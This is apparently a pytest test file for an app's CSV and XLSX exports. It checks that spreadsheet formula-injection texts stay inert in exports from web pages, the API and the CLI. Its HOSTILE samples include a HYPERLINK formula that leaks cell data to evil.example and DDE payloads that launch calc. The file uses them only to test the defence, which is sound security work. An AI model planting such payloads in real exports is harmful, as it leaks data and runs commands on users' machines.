"""CSV injection: every export the app offers (pages, REST API, CLI; CSV and XLSX) keeps a
text a spreadsheet would run as a formula inert. OWASP's rule is checked cell by cell: no
CSV cell starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return (numbers
aside), and every such XLSX text is a string cell with Excel's quote prefix."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from typer.testing import CliRunner

from cxgap.cli.main import app as cli
from cxgap.schema import parse_internal_answer
from cxgap.services import accounts
from cxgap.services.answers import store_internal_answers
from cxgap.services.campaigns import create_internal_campaign
from cxgap.services.core import Cxgap
from cxgap.services.feedback_imports import run_feedback_import
from cxgap.services.survey_imports import import_customer_rows
from cxgap.services.workspaces import get_workspace
from tests.factories import PILLAR_KEYS, customer_form, internal_form, make_user, make_workspace
from tests.warm_routes import app_for
from tests.web.conftest import log_in

HOSTILE = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")
ACME = "/api/v1/workspaces/acme"


def runnable(text: str) -> bool:
    """A text a spreadsheet could run, as OWASP describes it (numbers aside)."""
    starts = text.startswith(DANGEROUS) or text.lstrip().startswith(DANGEROUS[:4])
    return starts and not NUMBER.fullmatch(text)


def csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    delimiter = ";" if ";" in text.split("\n", 1)[0] else ","
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row]


def assert_csv_inert(data: bytes, name: str) -> None:
    cells = csv_cells(data)
    bad = [c for c in cells if c.startswith(DANGEROUS) and not NUMBER.fullmatch(c)]
    assert bad == [], f"{name}: cells a spreadsheet would run: {bad}"
    assert "'" + HOSTILE[0] in cells, f"{name}: the hostile text was not exported"


def assert_xlsx_inert(data: bytes, name: str) -> None:
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    risky = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    risky = [c for c in risky if runnable(c.value)]
    assert HOSTILE[0] in [c.value for c in risky], f"{name}: the hostile text was not exported"
    bad = [(c.coordinate, c.value) for c in risky if c.data_type != "s" or not c.quotePrefix]
    assert bad == [], f"{name}: cells a spreadsheet would run: {bad}"


def feedback_file(tmp_path: Path, *, broken: bool = False) -> Path:
    path = tmp_path / ("broken.csv" if broken else "notes.csv")
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["source_id", "source_type", "collected_at", "text", "customer_ref",
                         "touchpoint", "nps"])  # fmt: skip
        for i, text in enumerate(HOSTILE):
            nps = HOSTILE[0] if broken else "7"
            writer.writerow([f"N-{i}", "complaint", "2024-03-11T10:30:00+01:00", text, text,
                             text, nps])  # fmt: skip
    return path


@pytest.fixture
def hostile(sqlite_cx: Cxgap, tmp_path: Path) -> Cxgap:
    """Hostile texts in every text field a customer, a colleague or a file can fill."""
    cx = sqlite_cx
    with cx.transaction() as session:
        workspace = make_workspace(session)
        make_user(session, workspace=workspace, role="analyst")
        rows = [
            customer_form(response_id=f"r{i}", comment=text, customer_ref=text)
            for i, text in enumerate(HOSTILE)
        ]
        report = import_customer_rows(session, workspace=workspace, rows=rows, source="api")
        assert report.stored == len(HOSTILE)
        campaign = create_internal_campaign(session, workspace=workspace, key="q1", name="Q1")
        answers = [
            parse_internal_answer(
                internal_form(comment=text, department=text), pillar_keys=PILLAR_KEYS
            )
            for text in HOSTILE
        ]
        ids = [f"s{i}" for i in range(len(HOSTILE))]
        store_internal_answers(session, campaign=campaign, answers=answers, submission_ids=ids)
    for broken in (False, True):
        source = feedback_file(tmp_path, broken=broken)
        run_feedback_import(cx, workspace_key="acme", source=source, name=source.name)
    return cx


@pytest.fixture
def analyst(hostile: Cxgap) -> Iterator[TestClient]:
    with TestClient(app_for(hostile)) as client:
        log_in(client, "ana@example.com")
        yield client


def refused_import_id(cx: Cxgap) -> int:
    from cxgap.services.feedback_imports import list_imports

    with cx.reading() as session:
        runs = list_imports(session, get_workspace(session, "acme"))
    return next(run.id for run in runs if run.status == "refused")


def test_every_page_download_keeps_formulas_inert(hostile: Cxgap, analyst: TestClient) -> None:
    problems = f"/w/acme/import/feedback/imports/{refused_import_id(hostile)}/problems.csv"
    for path in (
        "/w/acme/export/customer_answers.csv",
        "/w/acme/export/internal_answers.csv",
        "/w/acme/listening/export.csv",
        problems,
    ):
        response = analyst.get(path)
        assert response.status_code == 200, (path, response.text)
        assert_csv_inert(response.content, path)
    response = analyst.get("/w/acme/listening/export.xlsx")
    assert response.status_code == 200
    assert_xlsx_inert(response.content, "listening/export.xlsx")


def test_every_api_export_keeps_formulas_inert(hostile: Cxgap, analyst: TestClient) -> None:
    with hostile.transaction() as session:
        token = accounts.create_api_token(session, email="ana@example.com", name="t")
    headers = {"authorization": f"Bearer {token}"}
    for query in ("which=customer", "which=internal"):
        response = analyst.get(f"{ACME}/answers/export?{query}", headers=headers)
        assert response.status_code == 200, response.text
        assert_csv_inert(response.content, query)
    response = analyst.get(f"{ACME}/feedback/export?format=csv", headers=headers)
    assert_csv_inert(response.content, "api feedback csv")
    response = analyst.get(f"{ACME}/feedback/export?format=xlsx", headers=headers)
    assert_xlsx_inert(response.content, "api feedback xlsx")


def test_every_cli_export_keeps_formulas_inert(hostile: Cxgap, tmp_path: Path) -> None:
    url = hostile.settings.database_url
    runner = CliRunner()
    result = runner.invoke(
        cli,
        [
            "assess",
            "export",
            "-w",
            "acme",
            "--output",
            str(tmp_path / "out"),
            "--database-url",
            url,
        ],
    )
    assert result.exit_code == 0, result.output
    for name in ("customer_answers.csv", "internal_answers.csv"):
        assert_csv_inert((tmp_path / "out" / name).read_bytes(), name)
    for fmt in ("csv", "xlsx"):
        output = tmp_path / f"feedback.{fmt}"
        args = ["export", "feedback", "--workspace", "acme", "--format", fmt, "-o", str(output)]
        result = runner.invoke(cli, [*args, "--database-url", url])
        assert result.exit_code == 0, result.output
        check = assert_csv_inert if fmt == "csv" else assert_xlsx_inert
        check(output.read_bytes(), output.name)
